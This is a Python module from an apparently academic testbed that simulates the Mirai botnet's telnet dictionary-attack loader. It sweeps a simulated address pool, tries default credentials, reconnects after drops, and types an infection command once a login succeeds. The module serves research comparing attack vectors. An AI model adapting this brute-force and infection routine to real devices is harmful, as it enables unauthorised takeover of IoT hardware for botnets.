"""The Mirai loader: dictionary-attack recruitment over telnet.

This is the *baseline* recruitment vector the paper contrasts with its
memory-error exploits ("the Mirai attack leveraged similar default
credentials to access and compromise IoT devices", §IV-C).  The loader
sweeps the device address pool, tries the classic factory-credential
dictionary against each telnet service, and — on a successful login —
types the same infection one-liner the ROP chain would have executed.

Comparing this vector against the memory-error one inside the same
testbed quantifies the paper's motivation: credential hygiene laws
(§I's "recent legislative measures") shrink the credential attack
surface, while memory-error recruitment still reaches everything running
a vulnerable parser.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.binaries.logind import DEFAULT_CREDENTIALS, TELNET_PORT
from repro.netsim.address import Ipv6Address
from repro.netsim.process import ProcessKilled, Timeout


@dataclass
class LoaderStats:
    """What the dictionary sweep achieved."""

    hosts_probed: int = 0
    hosts_with_telnet: int = 0
    logins_succeeded: int = 0
    logins_failed: int = 0
    infections_typed: int = 0
    compromised_addresses: List[object] = field(default_factory=list)


class _Session:
    """Buffered reader over a telnet socket (prompts are not line-based)."""

    def __init__(self, sock):
        self.sock = sock
        self.buffer = b""
        self.closed = False

    def read_until(self, *tokens: bytes):
        """Generator: read until one of ``tokens`` appears; returns the
        token found (earliest in the stream) or None on EOF.  Consumes
        through the end of the found token."""
        while True:
            found = None
            found_at = None
            for token in tokens:
                index = self.buffer.find(token)
                if index >= 0 and (found_at is None or index < found_at):
                    found, found_at = token, index
            if found is not None:
                self.buffer = self.buffer[found_at + len(found):]
                return found
            try:
                chunk = yield self.sock.recv()
            except ConnectionError:
                self.closed = True
                return None
            if chunk == b"":
                self.closed = True
                return None
            self.buffer += chunk


def telnet_loader_program(
    pool_base: int,
    first_iid: int,
    last_iid: int,
    infection_command: str,
    stats: LoaderStats,
    credentials: Sequence[Tuple[str, str]] = DEFAULT_CREDENTIALS,
    self_iid: Optional[int] = None,
    sweep_interval: float = 0.2,
):
    """Build the loader ``program(ctx)``: one sweep over the pool."""

    def loader(ctx):
        try:
            for iid in range(first_iid, last_iid + 1):
                if iid == self_iid:
                    continue
                victim = Ipv6Address(pool_base | iid)
                stats.hosts_probed += 1
                yield from _attack_host(
                    ctx, victim, infection_command, credentials, stats
                )
                yield Timeout(ctx.sim, sweep_interval)
        except ProcessKilled:
            raise

    return loader


def _attack_host(ctx, victim, infection_command, credentials, stats):
    """Generator: dictionary attack against one host's telnet service.

    IoT telnet daemons drop the connection after a few failed attempts;
    like the real Mirai loader, we reconnect and keep walking the
    dictionary until it is exhausted or a login lands.
    """
    sock = None
    session = None
    first_connection = True
    index = 0
    reconnects_left = len(credentials) + 2
    tracer = ctx.sim.obs.tracer
    # In the trace, loader.attempt opens the attempt and loader.result
    # closes it (once: ``attempt`` is cleared when it is closed).
    attempt = None
    if tracer.enabled:
        attempt = {"victim": str(victim), "loader": ctx.container.name}
        tracer.emit("loader.attempt", ctx.sim.now, **attempt)
    try:
        while index < len(credentials):
            if session is None or session.closed:
                if reconnects_left <= 0:
                    return
                reconnects_left -= 1
                if sock is not None:
                    sock.close()
                sock = ctx.netns.tcp_connect(victim, TELNET_PORT)
                try:
                    yield sock.wait_connected()
                except ConnectionError:
                    return  # no telnet (or host down): move on
                if first_connection:
                    stats.hosts_with_telnet += 1
                    first_connection = False
                session = _Session(sock)
            username, password = credentials[index]
            # A dead session mid-handshake means we never actually tried
            # this credential: reconnect and retry the SAME index.
            if (yield from session.read_until(b"login: ")) is None:
                continue
            sock.send_line(username)
            if (yield from session.read_until(b"password: ")) is None:
                continue
            sock.send_line(password)
            verdict = yield from session.read_until(b"$ ", b"Login incorrect")
            if verdict == b"$ ":
                stats.logins_succeeded += 1
                sock.send_line(infection_command)
                stats.infections_typed += 1
                stats.compromised_addresses.append(victim)
                if attempt is not None:
                    tracer.emit("loader.result", ctx.sim.now, **attempt,
                                status="infected", attempts=index + 1)
                    attempt = None
                # Wait for the shell to come back, then leave politely.
                yield from session.read_until(b"$ ")
                sock.send_line("exit")
                return
            if verdict is None:
                continue  # dropped before a verdict: retry this credential
            stats.logins_failed += 1  # definitive "Login incorrect"
            index += 1
    except ConnectionError:
        return
    finally:
        if attempt is not None:
            tracer.emit("loader.result", ctx.sim.now, **attempt,
                        status="failed")
        if sock is not None:
            sock.close()
